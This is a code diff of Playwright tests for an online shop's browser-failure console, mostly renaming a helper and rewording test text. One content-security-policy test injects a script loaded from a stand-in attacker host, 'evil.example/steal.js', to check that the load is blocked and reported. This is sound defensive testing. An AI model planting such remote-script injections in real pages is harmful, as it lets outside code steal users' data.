@@ -2,14 +2,14 @@ import { type HeardFailure, REPORTS_PATH } from '../../contracts/api/browser-rep
 import { href } from '../../contracts/site/site-map.ts';
 import { type Console, expect, test } from './console-test.ts';
 
-/** Waits until the shop has heard of such a failure. */
-async function hears(mock: Console, wanted: Partial<Record<keyof HeardFailure, unknown>>): Promise<void> {
+/** Waits until the console lists such a failure. */
+async function isListed(mock: Console, wanted: Partial<Record<keyof HeardFailure, unknown>>): Promise<void> {
   await expect
     .poll(async () => (await mock.read('/browser-failures')).failures)
     .toContainEqual(expect.objectContaining(wanted));
 }
 
-test('a page that breaks shows a number to give on the phone, and the console shows why it broke', async ({
+test('a broken page shows a reference to quote on the phone, and the console shows why it broke', async ({
   page,
   shop,
   mock,
@@ -25,14 +25,18 @@ test('a page that breaks shows a number to give on the phone, and the console sh
     });
   });
   await shop.open('product', { id: 'p-0601' });
-  await expect(page.getByRole('main')).toContainText(/call us and give the number F-[A-Z2-9]{5}\./);
+  await expect(page.getByRole('main')).toContainText(/quote F-[A-Z2-9]{5}\./);
   await shop.expectAccessible();
-  await hears(mock, { kind: 'page', page: 'product', message: expect.stringContaining('React error #31') });
+  await isListed(mock, {
+    kind: 'page',
+    page: 'product',
+    message: expect.stringContaining('React error #31'),
+  });
   expect(quietConsole.splice(0).join()).toContain('React error #31');
 
   await mock.open('browser-failures');
   const item = page.getByRole('listitem').filter({ hasText: 'React error #31' }).first();
-  await expect(item).toContainText(/Page broke.*Product.* · Chrome \d+ · /s);
+  await expect(item).toContainText(/Page broken.*Product.* · Chrome \d+ · /s);
   await shop.expectAccessible();
   await page.getByRole('button', { name: 'Clear' }).click();
   await expect(page.getByText('React error #31')).toHaveCount(0);
@@ -45,7 +49,11 @@ test('a script that is blocked is reported although nothing of the page runs', a
 }) => {
   await page.route(/\/assets\/entry-desktop/, (route) => route.abort());
   await page.goto(href('delivery', 'desktop'));
-  await hears(mock, { kind: 'script', page: 'delivery', message: expect.stringContaining('entry-desktop') });
+  await isListed(mock, {
+    kind: 'script',
+    page: 'delivery',
+    message: expect.stringContaining('entry-desktop'),
+  });
   quietConsole.length = 0;
 });
 
@@ -61,7 +69,7 @@ test('a violation of the content security policy is reported, with the other sit
     script.src = 'https://evil.example/steal.js?from=shop';
     document.head.append(script);
   });
-  await hears(mock, {
+  await isListed(mock, {
     kind: 'policy',
     page: 'terms',
     message: 'script-src-elem blocked https://evil.example',
@@ -69,7 +77,7 @@ test('a violation of the content security policy is reported, with the other sit
   quietConsole.length = 0;
 });
 
-test('one visit of ten is measured once the page has come, and reported when it is left', async ({
+test('one visit in ten is measured after the page has loaded, and reported', async ({
   page,
   context,
   shop,
